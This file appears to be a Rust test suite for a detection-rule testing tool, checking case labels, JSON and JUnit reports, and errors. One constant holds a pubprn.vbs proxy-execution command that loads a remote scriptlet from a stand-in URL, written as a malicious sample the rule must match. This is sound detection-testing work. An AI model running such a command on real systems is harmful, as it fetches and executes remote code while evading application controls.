//! `cutout test`.

use super::{Place, RULE};
use serde_json::json;

const BAD: &str = r"cscript C:\a\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct";

fn cases(label: &str) -> String {
    format!(
        "cutout-cases: 1\npack: t1216\ncases:\n  - name: a scriptlet\n    label: {label}\n    events: |\n      {BAD}\n"
    )
}

#[test]
fn what_holds_ends_clean_and_what_is_broken_is_a_finding() {
    let place = Place::new("test_holds");
    place
        .file("good.yml", cases("malicious"))
        .file("bad.yml", cases("benign"));
    let good = place.run(&["test", "good.yml"]);
    assert_eq!(good.code, Some(0), "{}{}", good.stdout, good.stderr);
    assert!(
        good.stdout.contains("1 case in 1 file: 0 broken"),
        "{}",
        good.stdout
    );
    let both = place.run(&["test", "."]);
    assert_eq!(both.code, Some(1), "{}", both.stderr);
    assert!(
        both.stdout
            .contains("bad.yml:4: line 1 is benign, and is matched by Pubprn.vbs Proxy Execution"),
        "{}",
        both.stdout
    );
}

#[test]
fn json_has_the_tables() {
    let place = Place::new("test_json");
    place.file("good.yml", cases("malicious"));
    let (rows, summary) = place
        .run(&["test", "--json", "good.yml"])
        .rows_and_summary();
    assert_eq!(rows[0]["together"]["true_positives"], 1);
    assert_eq!(rows[0]["cases"][0]["broken"], json!([]));
    assert_eq!(
        summary,
        json!({"summary": {"files": 1, "cases": 1, "broken": 0, "not_run": 0}})
    );
}

#[test]
fn junit_tells_failures_from_errors() {
    let place = Place::new("test_junit");
    let more = "  - name: '<none>'\n    label: benign\n    events: ''\n";
    place.file("bad.yml", cases("benign") + more);
    let ran = place.run(&["test", "--junit", "report.xml", "bad.yml"]);
    assert_eq!(
        ran.code,
        Some(2),
        "a case without events was not run: {}",
        ran.stdout
    );
    let report = std::fs::read_to_string(place.folder.join("report.xml")).unwrap();
    assert!(
        report.contains("tests=\"2\" failures=\"1\" errors=\"1\""),
        "{report}"
    );
    assert!(report.contains("name=\"&lt;none&gt;\""), "{report}");
}

#[test]
fn a_broken_case_file_could_not_run_and_says_where() {
    let place = Place::new("test_broken");
    place.file(
        "a.yml",
        "cutout-cases: 1\ncases:\n  - name: x\n    lable: benign\n    events: a.exe\n",
    );
    let ran = place.run(&["test", "a.yml"]);
    assert_eq!(ran.code, Some(2));
    assert!(
        ran.stderr.contains("a.yml:4:5: error[cases-key]"),
        "{}",
        ran.stderr
    );
}

#[test]
fn rules_and_events_may_be_files_beside_the_cases() {
    let place = Place::new("test_files");
    place
        .file("set/tool.yml", RULE)
        .file("set/lines.txt", "tool.exe -a\nother.exe\n")
        .file("set/cases.yml", "cutout-cases: 1\nrules: [{file: tool.yml}]\ncases:\n  - name: lines\n    file: lines.txt\n    labels: [malicious, benign]\n    expect: [{rule: tool, verdicts: [match, no_match]}]\n");
    let ran = place.run(&["test", "set/cases.yml"]);
    assert_eq!(ran.code, Some(0), "{}{}", ran.stdout, ran.stderr);
}

#[test]
fn an_exported_folder_is_a_regression_folder_that_holds() {
    let place = Place::new("test_export");
    place.file("good.yml", cases("malicious"));
    let ran = place.run(&["test", "--export", "out", "good.yml"]);
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let again = place.run(&["test", "--json", "out"]);
    assert_eq!(again.code, Some(0), "{}{}", again.stdout, again.stderr);
    let (rows, _) = again.rows_and_summary();
    assert_eq!(rows.len(), 1);
    let twice = place.run(&["test", "--export", "out", "good.yml"]);
    assert_eq!(twice.code, Some(2), "nothing is overwritten");
}

#[test]
fn a_rule_that_was_not_loaded_could_not_be_run() {
    let place = Place::new("test_no_rule");
    place.file("r/info.yml", "rule_metadata: [{id: 0-0, title: T}]\nregression_tests_info: [{name: t, match_count: 1, path: x/e.json}]\n");
    place.file("r/e.json", "{\"CommandLine\": \"tool.exe\"}\n");
    let ran = place.run(&["test", "r"]);
    assert_eq!(ran.code, Some(2));
    assert!(
        ran.stdout.contains("there is no rule 0-0"),
        "{}",
        ran.stdout
    );
}
